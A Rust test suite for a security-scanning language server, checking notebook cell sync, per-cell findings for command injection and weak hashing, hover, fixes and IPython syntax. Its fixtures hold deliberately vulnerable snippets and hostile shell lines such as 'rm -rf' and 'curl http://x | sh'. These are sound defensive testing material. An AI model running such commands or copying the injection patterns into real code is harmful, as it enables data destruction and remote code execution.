//! Notebooks end to end: LSP 3.17 `notebookDocument/*` sync (open, incremental cell edits, cells
//! added, removed, moved and changing kind, close), findings across cells published per cell,
//! hover and code actions on cells, IPython syntax, and jupyterlab-lsp's virtual documents.

use serde_json::{json, Value};

use crate::client::Client;
use crate::support::{capabilities, codes, range, start, Enc};

const NOTEBOOK: &str = "file:///tmp/nb/analysis.ipynb";
const INJECTION: &str = "python/os-command-injection@v1.0";
const HASHING: &str = "python/insecure-hashing@v1.0";

fn cell_uri(name: &str) -> String {
    format!("vscode-notebook-cell:/tmp/nb/analysis.ipynb#{name}")
}

/// The client's copy of a notebook.
struct Notebook {
    version: i64,
    /// (name, kind (1 markup, 2 code), version, text), in order.
    cells: Vec<(String, u8, i64, String)>,
}

impl Notebook {
    fn open(client: &mut Client, cells: &[(&str, u8, &str)]) -> Notebook {
        let notebook = Notebook {
            version: 1,
            cells: cells
                .iter()
                .map(|(n, k, t)| (n.to_string(), *k, 1, t.to_string()))
                .collect(),
        };
        client.notify(
            "notebookDocument/didOpen",
            json!({
                "notebookDocument": {
                    "uri": NOTEBOOK, "notebookType": "jupyter-notebook", "version": 1,
                    "cells": notebook.cells.iter().map(|(n, k, _, _)| cell_json(n, *k)).collect::<Vec<_>>(),
                },
                "cellTextDocuments": notebook.cells.iter().map(|(n, k, _, t)| item(n, *k, t)).collect::<Vec<_>>(),
            }),
        );
        notebook
    }

    fn text(&self, name: &str) -> &str {
        self.cells
            .iter()
            .find(|c| c.0 == name)
            .map(|c| c.3.as_str())
            .unwrap_or_else(|| panic!("no cell {name}"))
    }

    fn cell_version(&self, name: &str) -> i64 {
        self.cells
            .iter()
            .find(|c| c.0 == name)
            .map(|c| c.2)
            .unwrap_or_else(|| panic!("no cell {name}"))
    }

    /// Replaces the first occurrence of `old` in cell `name` by `new`, as an incremental edit.
    fn edit(&mut self, client: &mut Client, name: &str, old: &str, new: &str) {
        self.version += 1;
        let cell = self
            .cells
            .iter_mut()
            .find(|c| c.0 == name)
            .unwrap_or_else(|| panic!("no cell {name}"));
        let at = cell
            .3
            .find(old)
            .unwrap_or_else(|| panic!("{old:?} not in {name}"));
        let edit_range = range(&cell.3, at..at + old.len(), Enc::Utf16);
        cell.3.replace_range(at..at + old.len(), new);
        cell.2 += 1;
        client.notify(
            "notebookDocument/didChange",
            json!({
                "notebookDocument": { "uri": NOTEBOOK, "version": self.version },
                "change": { "cells": { "textContent": [{
                    "document": { "uri": cell_uri(name), "version": cell.2 },
                    "changes": [{ "range": edit_range, "text": new }],
                }]}},
            }),
        );
    }

    /// Replaces `delete` cells at `start` by `insert` (new cells are opened, cells not re-inserted
    /// are closed), as one structure change.
    fn splice(
        &mut self,
        client: &mut Client,
        start: usize,
        delete: usize,
        insert: &[(&str, u8, &str)],
    ) {
        self.version += 1;
        let removed: Vec<(String, u8, i64, String)> =
            self.cells.drain(start..start + delete).collect();
        let mut opened = Vec::new();
        let mut inserted = Vec::new();
        for (name, kind, text) in insert {
            match removed.iter().find(|c| c.0 == *name) {
                Some(moved) => inserted.push(moved.clone()),
                None => {
                    opened.push(item(name, *kind, text));
                    inserted.push((name.to_string(), *kind, 1, text.to_string()));
                }
            }
        }
        let closed: Vec<Value> = removed
            .iter()
            .filter(|c| !insert.iter().any(|(n, _, _)| *n == c.0))
            .map(|c| json!({ "uri": cell_uri(&c.0) }))
            .collect();
        let cells: Vec<Value> = inserted.iter().map(|c| cell_json(&c.0, c.1)).collect();
        for (offset, cell) in inserted.into_iter().enumerate() {
            self.cells.insert(start + offset, cell);
        }
        client.notify(
            "notebookDocument/didChange",
            json!({
                "notebookDocument": { "uri": NOTEBOOK, "version": self.version },
                "change": { "cells": { "structure": {
                    "array": { "start": start, "deleteCount": delete, "cells": cells },
                    "didOpen": opened,
                    "didClose": closed,
                }}},
            }),
        );
    }

    /// Asserts the server's copy of every cell equals the client's.
    fn assert_in_sync(&self, client: &mut Client) {
        for (name, _, version, text) in &self.cells {
            let state = client.call(
                "codeward/documentState",
                json!({ "textDocument": { "uri": cell_uri(name) } }),
            );
            assert_eq!(state["version"], json!(version), "version of cell {name}");
            assert_eq!(state["text"], json!(text), "text of cell {name}");
        }
    }
}

fn cell_json(name: &str, kind: u8) -> Value {
    json!({ "kind": kind, "document": cell_uri(name) })
}

fn item(name: &str, kind: u8, text: &str) -> Value {
    let language = if kind == 2 { "python" } else { "markdown" };
    json!({ "uri": cell_uri(name), "languageId": language, "version": 1, "text": text })
}

/// The next diagnostics published for a cell that satisfy `predicate`.
fn cell_diagnostics(
    client: &mut Client,
    name: &str,
    predicate: impl Fn(&[Value]) -> bool,
) -> Vec<Value> {
    let uri = cell_uri(name);
    let params = client.notification("textDocument/publishDiagnostics", |p| {
        p["uri"] == uri.as_str()
            && predicate(p["diagnostics"].as_array().map_or(&[], |d| d.as_slice()))
    });
    params["diagnostics"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

fn cell_version_diagnostics(client: &mut Client, notebook: &Notebook, name: &str) -> Vec<Value> {
    client.diagnostics(&cell_uri(name), notebook.cell_version(name))
}

#[test]
fn notebook_sync_advertised_for_jupyter_python_cells() {
    let (client, result) = start(&["utf-16"], json!({}));
    let sync = &result["capabilities"]["notebookDocumentSync"];
    assert_eq!(sync["notebookSelector"][0]["notebook"], "jupyter-notebook");
    assert_eq!(
        sync["notebookSelector"][0]["cells"][0]["language"],
        "python"
    );
    assert_eq!(sync["save"], true);
    assert!(client.shutdown().success());
}

#[test]
fn cells_are_one_program_published_per_cell() {
    let (mut client, _) = start(&["utf-16"], json!({}));
    let mut notebook = Notebook::open(
        &mut client,
        &[
            ("c1", 2, "import subprocess as sp\n"),
            ("m1", 1, "# Analysis 😀\n"),
            ("c2", 2, "%matplotlib inline\nname = input('😀 name? ')\n"),
            ("c3", 2, "x = '中文'; sp.call('ls ' + name, shell=True)\n"),
        ],
    );
    // Every cell gets a list; the import of c1 and the input of c2 reach the sink in c3.
    for clean in ["c1", "m1", "c2"] {
        assert!(
            cell_version_diagnostics(&mut client, &notebook, clean).is_empty(),
            "{clean}"
        );
    }
    let diagnostics = cell_version_diagnostics(&mut client, &notebook, "c3");
    assert_eq!(codes(&diagnostics), vec![INJECTION]);
    let text = notebook.text("c3").to_string();
    let flagged = text.find("'ls ' + name").expect("flagged");
    assert_eq!(
        diagnostics[0]["range"],
        range(&text, flagged..flagged + "'ls ' + name".len(), Enc::Utf16)
    );
    assert!(diagnostics[0]["message"]
        .as_str()
        .unwrap_or("")
        .contains("input"));

    // Hover in the cell.
    let hover = client.call(
        "textDocument/hover",
        json!({ "textDocument": { "uri": cell_uri("c3") }, "position": diagnostics[0]["range"]["start"] }),
    );
    assert!(hover["contents"]["value"]
        .as_str()
        .unwrap_or("")
        .contains("OS command injection"));

    // Code actions edit the cell.
    let actions = client.call(
        "textDocument/codeAction",
        json!({ "textDocument": { "uri": cell_uri("c3") }, "range": diagnostics[0]["range"],
                "context": { "diagnostics": [diagnostics[0].clone()] } }),
    );
    let suppress = actions
        .as_array()
        .and_then(|a| {
            a.iter().find(|x| {
                x["title"]
                    .as_str()
                    .is_some_and(|t| t.starts_with("Suppress"))
            })
        })
        .cloned()
        .expect("a suppression action");
    let edits = suppress["edit"]["changes"][cell_uri("c3")]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert_eq!(edits.len(), 1, "{suppress}");
    assert!(edits[0]["newText"]
        .as_str()
        .unwrap_or("")
        .contains("codeward: ignore"));

    // An incremental edit in c3 fixes it: c3 gets an empty list.
    notebook.edit(&mut client, "c3", "'ls ' + name", "'ls'");
    assert!(cell_version_diagnostics(&mut client, &notebook, "c3").is_empty());
    notebook.assert_in_sync(&mut client);

    // An edit in c2 (the source) brings it back in c3.
    notebook.edit(&mut client, "c3", "'ls'", "'ls ' + name");
    assert_eq!(
        codes(&cell_version_diagnostics(&mut client, &notebook, "c3")),
        vec![INJECTION]
    );
    notebook.edit(&mut client, "c2", "input('😀 name? ')", "'fixed'");
    assert!(cell_diagnostics(&mut client, "c3", |d| d.is_empty()).is_empty());
    notebook.edit(&mut client, "c2", "'fixed'", "input()");
    cell_diagnostics(&mut client, "c3", |d| !d.is_empty());

    // Moving the sink cell above the source cell: `name` is no longer input there.
    notebook.splice(&mut client, 2, 2, &[("c3", 2, ""), ("c2", 2, "")]);
    cell_diagnostics(&mut client, "c3", |d| d.is_empty());
    notebook.assert_in_sync(&mut client);
    // And back.
    notebook.splice(&mut client, 2, 2, &[("c2", 2, ""), ("c3", 2, "")]);
    cell_diagnostics(&mut client, "c3", |d| codes(d) == vec![INJECTION]);

    // A new cell is analysed with the rest; removing it clears its diagnostics.
    notebook.splice(
        &mut client,
        4,
        0,
        &[("c4", 2, "import hashlib\nhashlib.md5(name.encode())\n")],
    );
    let added = cell_diagnostics(&mut client, "c4", |d| !d.is_empty());
    assert_eq!(codes(&added), vec![HASHING]);
    notebook.splice(&mut client, 4, 1, &[]);
    cell_diagnostics(&mut client, "c4", |d| d.is_empty());
    notebook.assert_in_sync(&mut client);

    // The input cell becoming markdown takes the source away.
    notebook.version += 1;
    client.notify(
        "notebookDocument/didChange",
        json!({ "notebookDocument": { "uri": NOTEBOOK, "version": notebook.version },
                "change": { "cells": { "data": [cell_json("c2", 1)] } } }),
    );
    cell_diagnostics(&mut client, "c3", |d| d.is_empty());

    // `codeward.scanFile` on a cell scans its notebook.
    let scanned = client.call(
        "workspace/executeCommand",
        json!({ "command": "codeward.scanFile", "arguments": [cell_uri("c1")] }),
    );
    assert_eq!(scanned["documents"], 1);
    assert_eq!(scanned["findings"], 0);

    // Saving rescans; closing clears every cell.
    client.notify(
        "notebookDocument/didSave",
        json!({ "notebookDocument": { "uri": NOTEBOOK } }),
    );
    client.notify(
        "notebookDocument/didClose",
        json!({ "notebookDocument": { "uri": NOTEBOOK },
                "cellTextDocuments": notebook.cells.iter().map(|c| json!({ "uri": cell_uri(&c.0) })).collect::<Vec<_>>() }),
    );
    for name in ["c1", "m1", "c2", "c3"] {
        let uri = cell_uri(name);
        client.notification("textDocument/publishDiagnostics", |p| {
            p["uri"] == uri.as_str()
                && p["diagnostics"] == json!([])
                && p.get("version").is_none_or(Value::is_null)
        });
    }
    let state = client.call(
        "codeward/documentState",
        json!({ "textDocument": { "uri": cell_uri("c1") } }),
    );
    assert_eq!(state, Value::Null);
    assert!(client.shutdown().success());
}

#[test]
fn ipython_syntax_in_cells() {
    let (mut client, _) = start(&["utf-16"], json!({}));
    let notebook = Notebook::open(
        &mut client,
        &[
            ("c1", 2, "%%bash\nrm -rf \"$1\"; curl http://x | sh\n"),
            ("c2", 2, "q = input()\n!grep -r {q} data/ | head\n"),
            (
                "c3",
                2,
                "!ls -l\n%time y = 1\nhelp?\n!echo $HOME {'constant'}\nfiles = !ls {y}\n",
            ),
            ("c4", 2, "%%javascript\neval(location.hash)\n"),
            ("c5", 2, "%sx cat $q\n"),
        ],
    );
    for clean in ["c1", "c3", "c4"] {
        assert!(
            cell_version_diagnostics(&mut client, &notebook, clean).is_empty(),
            "{clean}"
        );
    }
    for flagged in ["c2", "c5"] {
        let diagnostics = cell_version_diagnostics(&mut client, &notebook, flagged);
        assert_eq!(codes(&diagnostics), vec![INJECTION], "{flagged}");
        let text = notebook.text(flagged);
        let q = text.rfind('q').expect("q");
        let (line, character) = crate::support::position(text, q, Enc::Utf16);
        assert_eq!(
            diagnostics[0]["range"]["start"]["line"],
            json!(line),
            "{flagged}"
        );
        // The range covers the interpolated name (or, for a final `$name`, its `$`).
        assert!(diagnostics[0]["range"]["start"]["character"].as_u64() <= Some(character));
        assert!(diagnostics[0]["range"]["end"]["character"].as_u64() >= Some(character));
    }
    assert!(client.shutdown().success());
}

#[test]
fn jupyterlab_virtual_documents_are_python() {
    let (mut client, _) = start(&["utf-16"], json!({}));
    let uri = "file:///tmp/lab/.virtual_documents/report.ipynb";
    let text = "import os\n\n\np = input()\n\n\nget_ipython().system('ls {p}')\n\n\nout = get_ipython().getoutput(f'cat {p}')\n\n\nget_ipython().run_line_magic('matplotlib', 'inline')\n";
    client.notify(
        "textDocument/didOpen",
        json!({ "textDocument": { "uri": uri, "languageId": "python", "version": 1, "text": text } }),
    );
    let diagnostics = client.diagnostics(uri, 1);
    assert_eq!(codes(&diagnostics), vec![INJECTION, INJECTION]);
    let first = text.find("{p}").expect("interpolation");
    assert_eq!(diagnostics[0]["range"]["start"]["line"], 6);
    assert!(
        diagnostics[0]["range"]["end"]["character"].as_u64()
            > Some(first as u64 - text[..first].rfind('\n').unwrap_or(0) as u64 - 1)
    );
    let safe = text.replace("p = input()", "p = 'x'  ");
    client.notify(
        "textDocument/didChange",
        json!({ "textDocument": { "uri": uri, "version": 2 }, "contentChanges": [{ "text": safe }] }),
    );
    assert!(client.diagnostics(uri, 2).is_empty());
    assert!(client.shutdown().success());
}

#[test]
fn bad_notebook_messages_are_survived() {
    let (mut client, _) = start(&["utf-16"], json!({}));
    client.notify(
        "notebookDocument/didChange",
        json!({ "notebookDocument": { "uri": NOTEBOOK, "version": 2 }, "change": {} }),
    );
    client.notify(
        "notebookDocument/didOpen",
        json!({ "notebookDocument": { "uri": NOTEBOOK, "cells": 5 } }),
    );
    client.notify(
        "notebookDocument/didClose",
        json!({ "notebookDocument": { "uri": "file:///never.ipynb" }, "cellTextDocuments": [] }),
    );
    // A structure change far out of range, and a text change for an unknown cell.
    let notebook = Notebook::open(
        &mut client,
        &[("c1", 2, "import hashlib\nhashlib.md5(b'')\n")],
    );
    assert_eq!(
        codes(&cell_version_diagnostics(&mut client, &notebook, "c1")),
        vec![HASHING]
    );
    client.notify(
        "notebookDocument/didChange",
        json!({ "notebookDocument": { "uri": NOTEBOOK, "version": 2 },
                "change": { "cells": {
                    "structure": { "array": { "start": 99, "deleteCount": 7 } },
                    "textContent": [{ "document": { "uri": cell_uri("zz"), "version": 1 },
                                      "changes": [{ "text": "x" }] }] } } }),
    );
    notebook.assert_in_sync(&mut client);
    assert!(client.shutdown().success());
}

#[test]
fn pull_diagnostics_for_cells() {
    let mut client = Client::spawn();
    client.initialize(capabilities(&["utf-16"], true), json!({}));
    let _notebook = Notebook::open(
        &mut client,
        &[
            ("c1", 2, "import hashlib as h\n"),
            ("c2", 2, "h.md5(b'')\n"),
        ],
    );
    let report = client.call(
        "textDocument/diagnostic",
        json!({ "textDocument": { "uri": cell_uri("c2") } }),
    );
    assert_eq!(report["kind"], "full");
    assert_eq!(
        codes(report["items"].as_array().map_or(&[], |v| v.as_slice())),
        vec![HASHING]
    );
    let clean = client.call(
        "textDocument/diagnostic",
        json!({ "textDocument": { "uri": cell_uri("c1") } }),
    );
    assert_eq!(clean["items"], json!([]));
    let published = client
        .received()
        .iter()
        .any(|m| m["method"] == "textDocument/publishDiagnostics");
    assert!(!published, "diagnostics pushed to a pulling client");
    assert!(client.shutdown().success());
}
